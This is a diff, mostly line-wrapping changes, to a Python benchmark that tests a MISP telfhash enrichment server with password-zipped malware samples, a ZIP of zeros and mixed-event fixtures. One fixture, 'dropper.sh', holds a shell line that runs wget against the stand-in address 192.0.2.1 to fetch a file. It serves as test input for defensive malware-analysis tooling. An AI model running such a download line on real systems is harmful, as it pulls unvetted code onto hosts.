@@ -82,8 +82,9 @@ def zip_p(data: bytes, name: str, tmp: Path) -> bytes:
     (tmp / md5).write_bytes(data)
     (tmp / f"{md5}.filename.txt").write_text(name)
     out = tmp / f"{md5}.zip"
-    subprocess.run(["zip", "-q", "-j", "-P", "infected", str(out), str(tmp / md5), str(tmp / f"{md5}.filename.txt")],
-                   check=True)
+    subprocess.run(
+        ["zip", "-q", "-j", "-P", "infected", str(out), str(tmp / md5), str(tmp / f"{md5}.filename.txt")], check=True
+    )
     blob = out.read_bytes()
     for p in (out, tmp / md5, tmp / f"{md5}.filename.txt"):
         p.unlink()
@@ -91,9 +92,23 @@ def zip_p(data: bytes, name: str, tmp: Path) -> bytes:
 
 
 def attribute(kind: str, value: str, data: bytes | None, object_id: str = "0") -> dict:
-    a = {"id": "1", "event_id": "42", "object_id": object_id, "object_relation": None, "category": "Payload delivery",
-         "type": kind, "value": value, "to_ids": True, "uuid": str(uuid.uuid4()), "timestamp": "1764547200",
-         "distribution": "5", "sharing_group_id": "0", "comment": "", "deleted": False, "disable_correlation": False}
+    a = {
+        "id": "1",
+        "event_id": "42",
+        "object_id": object_id,
+        "object_relation": None,
+        "category": "Payload delivery",
+        "type": kind,
+        "value": value,
+        "to_ids": True,
+        "uuid": str(uuid.uuid4()),
+        "timestamp": "1764547200",
+        "distribution": "5",
+        "sharing_group_id": "0",
+        "comment": "",
+        "deleted": False,
+        "disable_correlation": False,
+    }
     if data is not None:
         a["data"] = base64.b64encode(data).decode()
     return a
@@ -126,8 +141,10 @@ def pct(times: list[float], q: float) -> float:
 
 
 def summary(times: list[float]) -> str:
-    return (f"median {statistics.median(times) * 1000:7.1f} ms  p95 {pct(times, 0.95) * 1000:7.1f} ms  "
-            f"max {max(times) * 1000:7.1f} ms")
+    return (
+        f"median {statistics.median(times) * 1000:7.1f} ms  p95 {pct(times, 0.95) * 1000:7.1f} ms  "
+        f"max {max(times) * 1000:7.1f} ms"
+    )
 
 
 def free_port() -> int:
@@ -172,9 +189,26 @@ def start_server(tmp: Path, env: dict) -> tuple[str, int, float, Path]:
     port = free_port()
     pid_file, log = tmp / "pid", tmp / "server.log"
     t = time.perf_counter()
-    out = subprocess.run([sys.executable, "-m", "telfhash_plugins.misp.cli", "-p", str(port), "--root", str(tmp / "root"),
-                          "--background", "--pid-file", str(pid_file), "--log", str(log)],
-                         capture_output=True, text=True, env=env, check=False)
+    out = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "telfhash_plugins.misp.cli",
+            "-p",
+            str(port),
+            "--root",
+            str(tmp / "root"),
+            "--background",
+            "--pid-file",
+            str(pid_file),
+            "--log",
+            str(log),
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
     ready = time.perf_counter() - t
     if out.returncode != 0:
         sys.exit(f"launcher failed ({out.returncode}): {out.stderr}")
@@ -210,7 +244,10 @@ def main() -> int:
     try:
         rest = status(pid, "VmRSS")
         print(f"machine: {os.cpu_count()} cores, load average {os.getloadavg()[0]:.1f} at start (shared machine)")
-        print(f"start: ready line after {ready:.2f} s; server RSS at rest {rest / MIB:.0f} MiB   (targets: <= 3 s, <= 150 MiB)")
+        print(
+            f"start: ready line after {ready:.2f} s; server RSS at rest {rest / MIB:.0f} MiB   "
+            "(targets: <= 3 s, <= 150 MiB)"
+        )
 
         # ------------------------------------------------------------------ digests and latency
         entries = pick(max(80, args.files))
@@ -218,8 +255,10 @@ def main() -> int:
         paths = [e["abspath"] for e in entries]
         blobs = [Path(p).read_bytes() for p in paths]
         bodies = [malware_sample_request(b, os.path.basename(p), tmp) for p, b in zip(paths, blobs)]
-        print(f"samples: {len(entries)} corpus files <= 5 MB, {len(archs)} architectures ({', '.join(archs)}), "
-              f"{sum(map(len, blobs)) / 1e6:.1f} MB, largest {max(map(len, blobs)) / 1e6:.2f} MB; ZIPs by zip -j -P")
+        print(
+            f"samples: {len(entries)} corpus files <= 5 MB, {len(archs)} architectures ({', '.join(archs)}), "
+            f"{sum(map(len, blobs)) / 1e6:.1f} MB, largest {max(map(len, blobs)) / 1e6:.2f} MB; ZIPs by zip -j -P"
+        )
         ref_times = ref_values = None
         if ref:
             ref_times, ref_values = run_reference(ref, paths)
@@ -238,20 +277,28 @@ def main() -> int:
             wrong_ref = sum(g != v.removeprefix("t1") for g, v in zip(got, ref_values))
             line += f", {len(got) - wrong_ref}/{len(got)} equal to the reference run now"
         print(line)
-        print(f"{'misp-modules, malware-sample, 20 concurrent':<46}{summary(times)}   (target p95 <= 500 ms; "
-              f"server CPU {server_cpu * 1000:.1f} ms per request; load average now {os.getloadavg()[0]:.1f})")
+        print(
+            f"{'misp-modules, malware-sample, 20 concurrent':<46}{summary(times)}   (target p95 <= 500 ms; "
+            f"server CPU {server_cpu * 1000:.1f} ms per request; load average now {os.getloadavg()[0]:.1f})"
+        )
         if ref_times:
-            print(f"{'reference telfhash(path), file on disk, serial':<46}{summary(ref_times)}   "
-                  f"(its whole run: {sum(ref_times):.2f} s for these files, serial)")
+            print(
+                f"{'reference telfhash(path), file on disk, serial':<46}{summary(ref_times)}   "
+                f"(its whole run: {sum(ref_times):.2f} s for these files, serial)"
+            )
         wall = None
         t = time.perf_counter()
         concurrent(base, bodies)
         wall = time.perf_counter() - t
-        print(f"throughput: {len(bodies) / wall:.1f} samples/s through the server (20 concurrent, 2 cores)"
-              + (f"; reference {len(ref_times) / sum(ref_times):.1f} files/s from disk, one process" if ref_times else ""))
+        print(
+            f"throughput: {len(bodies) / wall:.1f} samples/s through the server (20 concurrent, 2 cores)"
+            + (f"; reference {len(ref_times) / sum(ref_times):.1f} files/s from disk, one process" if ref_times else "")
+        )
         print(f"server RSS after the first ZipCrypto sample (numba kernel loaded): {after_first / MIB:.0f} MiB")
-        largest = sorted((f for f in corpus.files() if f["reference"]["telfhash"].startswith("t1") and f["size"] <= 5_000_000),
-                         key=lambda f: -f["size"])[:10]
+        largest = sorted(
+            (f for f in corpus.files() if f["reference"]["telfhash"].startswith("t1") and f["size"] <= 5_000_000),
+            key=lambda f: -f["size"],
+        )[:10]
         big_bodies = [malware_sample_request(Path(f["abspath"]).read_bytes(), "x", tmp) for f in largest]
         big_times, big_ok = [], 0
         for f, body in zip(largest, big_bodies):  # one at a time: the worst case MISP meets (10 s budget)
@@ -281,9 +328,12 @@ def main() -> int:
             walls.append(time.perf_counter() - t0)
             cpus.append(cpu_seconds(pid) - c0)
         ok = telf_of(res) == small["reference"]["telfhash"][2:]
-        line = (f"16 MiB incompressible malware-sample: server CPU {min(cpus):.2f} s (of 3: "
-                f"{', '.join(f'{c:.2f}' for c in cpus)}), wall {min(walls):.2f} s, digest {'= reference' if ok else 'WRONG'}"
-                "   (target <= 1 s CPU)")
+        line = (
+            f"16 MiB incompressible malware-sample: server CPU {min(cpus):.2f} s (of 3: "
+            f"{', '.join(f'{c:.2f}' for c in cpus)}), wall {min(walls):.2f} s, "
+            f"digest {'= reference' if ok else 'WRONG'}"
+            "   (target <= 1 s CPU)"
+        )
         print(line)
         md5 = hashlib.md5(big).hexdigest()
         unzip_cpu = []
@@ -295,9 +345,12 @@ def main() -> int:
         ref_line = f"  beside it: unzip -p -P (C) {min(unzip_cpu):.2f} s CPU"
         if ref:
             rt, rv = run_reference(ref, [str(big_path)])
-            ref_line += f"; reference telfhash on the unzipped file {rt[0]:.2f} s (digest {'equal' if rv[0][2:] == telf_of(res) else 'DIFFERENT'})"
-            ref_line += (f"; unzip + reference {min(unzip_cpu) + rt[0]:.2f} s vs ours {min(cpus):.2f} s CPU "
-                         "(ours includes HTTP, JSON and base64 of a 21 MiB request)")
+            same = "equal" if rv[0][2:] == telf_of(res) else "DIFFERENT"
+            ref_line += f"; reference telfhash on the unzipped file {rt[0]:.2f} s (digest {same})"
+            ref_line += (
+                f"; unzip + reference {min(unzip_cpu) + rt[0]:.2f} s vs ours {min(cpus):.2f} s CPU "
+                "(ours includes HTTP, JSON and base64 of a 21 MiB request)"
+            )
         print(ref_line)
         import io
         import zipfile
@@ -307,8 +360,10 @@ def main() -> int:
         with zipfile.ZipFile(io.BytesIO(slice_zip)) as zf:
             zf.read(hashlib.md5(big[: 2 * MIB]).hexdigest(), pwd=b"infected")
         py_rate = 2 / (time.process_time() - t0)
-        print(f"  Python zipfile's ZipCrypto (the module's former decrypter): {py_rate:.1f} MiB/s of CPU, "
-              f"i.e. {16 / py_rate:.0f} s for this sample; ours x{(16 / py_rate) / min(cpus):.0f}")
+        print(
+            f"  Python zipfile's ZipCrypto (the module's former decrypter): {py_rate:.1f} MiB/s of CPU, "
+            f"i.e. {16 / py_rate:.0f} s for this sample; ours x{(16 / py_rate) / min(cpus):.0f}"
+        )
 
         # ------------------------------------------------------------------ memory under 20 concurrent requests
         scenarios = []
@@ -316,8 +371,13 @@ def main() -> int:
         zeros = b"\0" * ((cap - 1) * MIB)
         bomb = malware_sample_request(zeros, "zeros", tmp, {"max_sample_mb": str(cap)})
         scenarios.append((f"{len(bomb) // 1024} KB ZipCrypto ZIP of {cap - 1} MiB zeros, cap {cap} MiB", bomb, cap))
-        scenarios.append(("16 MiB incompressible ELF, cap 16 MiB", malware_sample_request(big, "big.elf", tmp,
-                                                                                         {"max_sample_mb": "16"}), 16))
+        scenarios.append(
+            (
+                "16 MiB incompressible ELF, cap 16 MiB",
+                malware_sample_request(big, "big.elf", tmp, {"max_sample_mb": "16"}),
+                16,
+            )
+        )
         n = 10 if args.quick else 20
         for label, req, cap_mb in scenarios:
             base_rss = status(pid, "VmRSS")
@@ -326,8 +386,10 @@ def main() -> int:
             peak = status(pid, "VmHWM")
             answered = sum("results" in r for r in res_list)
             per = (peak - base_rss) / n
-            print(f"memory, {n} concurrent: {label}: peak {peak / MIB:.0f} MiB (from {base_rss / MIB:.0f}), "
-                  f"{per / MIB:.0f} MiB per request (bound {cap_mb + 64} MiB); {answered}/{n} answered")
+            print(
+                f"memory, {n} concurrent: {label}: peak {peak / MIB:.0f} MiB (from {base_rss / MIB:.0f}), "
+                f"{per / MIB:.0f} MiB per request (bound {cap_mb + 64} MiB); {answered}/{n} answered"
+            )
         print(f"server RSS after all of it: {status(pid, 'VmRSS') / MIB:.0f} MiB")
         fresh = tmp / "fresh"
         fresh.mkdir()
@@ -347,9 +409,12 @@ def main() -> int:
                 reset_peak(pid2)
                 post(base2, same_body)
                 host = status(pid2, "VmHWM") - before2
-                print(f"memory, one request alone (fresh server, {before / MIB:.0f} MiB): {label}: peak +{one / MIB:.0f} MiB "
-                      f"(bound {cap_mb + 64} MiB); misp-modules alone reading this {len(req) / MIB:.0f} MiB request "
-                      f"and answering it at once: +{host / MIB:.0f} MiB")
+                print(
+                    f"memory, one request alone (fresh server, {before / MIB:.0f} MiB): {label}: "
+                    f"peak +{one / MIB:.0f} MiB "
+                    f"(bound {cap_mb + 64} MiB); misp-modules alone reading this {len(req) / MIB:.0f} MiB request "
+                    f"and answering it at once: +{host / MIB:.0f} MiB"
+                )
         finally:
             os.kill(pid2, 15)
 
@@ -358,14 +423,31 @@ def main() -> int:
         mixed = [e for e in files if e["reference"]["telfhash"].startswith("t1")][:: max(1, len(files) // 30)][:25]
         mixed += [e for e in files if e["reference"]["telfhash"] == "tnull"][:5]
         mixed += [e for e in files if e["reference"]["telfhash"] == "-"][:5]
-        event = [(e["reference"]["telfhash"], Path(e["abspath"]).read_bytes(), os.path.basename(e["path"])) for e in mixed]
-        event += [("-", b"%PDF-1.7\n" + os.urandom(20_000), "report.pdf"), ("-", b"MZ\x90\0" + os.urandom(50_000), "a.exe"),
-                  ("-", b"#!/bin/sh\nwget http://192.0.2.1/x\n", "dropper.sh")]
+        event = [
+            (e["reference"]["telfhash"], Path(e["abspath"]).read_bytes(), os.path.basename(e["path"])) for e in mixed
+        ]
+        event += [
+            ("-", b"%PDF-1.7\n" + os.urandom(20_000), "report.pdf"),
+            ("-", b"MZ\x90\0" + os.urandom(50_000), "a.exe"),
+            ("-", b"#!/bin/sh\nwget http://192.0.2.1/x\n", "dropper.sh"),
+        ]
         reqs = []
         for ref_value, data, name in event:
             attr = attribute("malware-sample", f"{name}|{hashlib.md5(data).hexdigest()}", zip_p(data, name, tmp))
-            reqs.append((ref_value, json.dumps({"module": "telfhash_expansion", "event_id": "42", "attribute_uuid": attr["uuid"],
-                                                "config": {"index_path": None}, "attribute": attr}).encode()))
+            reqs.append(
+                (
+                    ref_value,
+                    json.dumps(
+                        {
+                            "module": "telfhash_expansion",
+                            "event_id": "42",
+                            "attribute_uuid": attr["uuid"],
+                            "config": {"index_path": None},
+                            "attribute": attr,
+                        }
+                    ).encode(),
+                )
+            )
         t0 = time.perf_counter()
         added = empty = errors = wrong = 0
         for ref_value, req in reqs:  # Event::enrichment queries one attribute after another
@@ -379,9 +461,11 @@ def main() -> int:
                 wrong += got_t != ref_value[2:]
             else:
                 empty += res["results"] == {}
-        print(f"bulk enrichment of a mixed event: {len(reqs)} attributes in {time.perf_counter() - t0:.2f} s: "
-              f"{added} telfhashes added ({wrong} wrong), {empty} empty results (tnull, -, PDF, PE, script), "
-              f"{errors} replies without results -> {'completes' if not errors else 'STOPS'}")
+        print(
+            f"bulk enrichment of a mixed event: {len(reqs)} attributes in {time.perf_counter() - t0:.2f} s: "
+            f"{added} telfhashes added ({wrong} wrong), {empty} empty results (tnull, -, PDF, PE, script), "
+            f"{errors} replies without results -> {'completes' if not errors else 'STOPS'}"
+        )
     finally:
         try:
             os.kill(pid, 15)
